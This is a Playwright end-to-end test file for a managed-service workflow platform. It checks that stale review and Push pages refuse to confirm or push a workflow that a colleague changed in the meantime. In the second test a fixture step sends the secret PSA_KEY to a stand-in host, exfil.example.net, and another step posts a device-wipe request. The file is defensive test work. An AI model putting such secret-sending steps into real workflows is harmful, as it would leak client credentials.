// Pages loaded before someone else changed what they show (found by QA): the client's review page
// after the provider pushed again, and the Push page after a colleague saved the workflow. Neither
// confirms or pushes what it did not show: the review reloads the new push and says so, the Push
// page loads the preflight again and says what changed.
import { randomBytes } from "node:crypto";
import { expect, test, type Page } from "@playwright/test";
import { createProviderOwner } from "./e2e-database";
import { signIn } from "./sign-in";

type Steps = Record<string, unknown>[];
const harmless: Steps = [
  { id: "hook", kind: "webhook", config: {} },
  { id: "calc", kind: "code", name: "Harmless", config: { code: "return 1" } },
];

async function setUp(page: Page, what: string) {
  const tag = randomBytes(3).toString("hex");
  const email = `${what}-${tag}@example.test`;
  await createProviderOwner(`Stale MSP ${tag}`, email, "stale-page-pw-1");
  await signIn(page, email, "stale-page-pw-1");
  const provider = ((await (await page.request.get("/api/v1/workspaces")).json()) as { workspaces: { id: string }[] }).workspaces[0].id;
  const client = await page.request.post(`/api/v1/workspaces/${provider}/clients`, { data: { name: `Northwind ${tag}` } });
  const clientId = ((await client.json()) as { id: string }).id;
  const created = await page.request.post(`/api/v1/workspaces/${provider}/workflows`, { data: { name: `Onboarding ${tag}`, steps: harmless } });
  const source = (await created.json()) as { id: string; name: string; version: number };
  return { provider, clientId, clientName: `Northwind ${tag}`, source };
}

/** Someone else's save: one more step after the ones created. */
async function addStep(page: Page, source: { id: string; name: string; version: number }, step: Record<string, unknown>) {
  const put = await page.request.put(`/api/v1/workflows/${source.id}`, { data: { name: source.name, version: source.version, steps: [...harmless, step] } });
  expect(put.status(), await put.text()).toBe(200);
}

test("confirming a review the provider pushed again since reloads the new push and says nothing was confirmed", async ({ page }) => {
  const { clientId, source } = await setUp(page, "review-race");
  const first = await page.request.post(`/api/v1/workflows/${source.id}/push`, { data: { targetWorkspaceId: clientId } });
  expect(first.status(), await first.text()).toBe(201);
  const copy = ((await first.json()) as { copy: { id: string } }).copy.id;
  await page.goto(`/w/${clientId}/workflows/${copy}/review`);
  await expect(page.getByText(/from version 1/)).toBeVisible();

  await addStep(page, source, { id: "wipe", kind: "http", name: "Wipe device", config: { method: "POST", url: "http://127.0.0.1:9/WIPE" } });
  const again = await page.request.post(`/api/v1/workflows/${source.id}/push`, { data: { targetWorkspaceId: clientId } });
  expect(again.status(), await again.text()).toBe(200);

  await page.getByRole("button", { name: "I reviewed the configuration" }).click();
  await expect(page.getByTestId("review-changed")).toHaveText(
    "Not confirmed: your provider pushed again (version 2) since you opened this page. The checklist below is now the new push's — check the configuration in the editor again, then confirm.",
  );
  await expect(page.getByText(/from version 2/)).toBeVisible();
  await expect(page.getByTestId("review-confirm")).toHaveAttribute("data-done", "false");
  const review = (await (await page.request.get(`/api/v1/workflows/${copy}/review`)).json()) as { complete: boolean };
  expect(review.complete).toBe(false);

  // The new push, now shown, is confirmed by the same button.
  await page.getByRole("button", { name: "I reviewed the configuration" }).click();
  await expect(page.getByTestId("review-confirm")).toHaveAttribute("data-done", "true");
  await expect(page.getByTestId("review-changed")).toHaveCount(0);
});

test("pushing after a colleague saved the workflow pushes nothing, loads the preflight again and says what changed", async ({ page }) => {
  const { provider, clientId, clientName, source } = await setUp(page, "push-race");
  await page.goto(`/w/${provider}/workflows/${source.id}/push`);
  await page.getByLabel("Client workspace").selectOption(clientId);
  await expect(page.getByRole("heading", { name: `Preflight for ${clientName}` })).toBeVisible();
  await expect(page.getByTestId("preflight").getByText("Nothing to resolve.").first()).toBeVisible();

  await addStep(page, source, {
    id: "send",
    kind: "http",
    name: "Send key",
    config: { method: "POST", url: "https://exfil.example.net/collect", headers: [{ name: "x-key", value: "{{ secrets.PSA_KEY }}" }] },
  });
  await page.getByRole("button", { name: `Push to ${clientName}` }).click();

  const changed = page.getByTestId("push-workflow-changed");
  await expect(changed).toContainText("Not pushed: the workflow was saved since this preflight (version 1 → version 2).");
  await expect(changed).toContainText("It now reads secret PSA_KEY.");
  await expect(page.getByTestId("preflight-key-PSA_KEY")).toContainText("created without a value");
  await expect(page.getByText(/^Version 2 ·/)).toBeVisible();
  const none = (await (await page.request.get(`/api/v1/workflows/${source.id}/pushes`)).json()) as { copies: unknown[] };
  expect(none.copies).toEqual([]);

  // Pushed again from the preflight now shown: version 2 goes.
  await page.getByRole("button", { name: `Push to ${clientName}` }).click();
  await expect(page.getByRole("status").filter({ hasText: `Pushed a new copy to ${clientName}` })).toBeVisible();
  const copies = (await (await page.request.get(`/api/v1/workflows/${source.id}/pushes`)).json()) as { copies: { pushedVersion: number }[] };
  expect(copies.copies.map((c) => c.pushedVersion)).toEqual([2]);
});
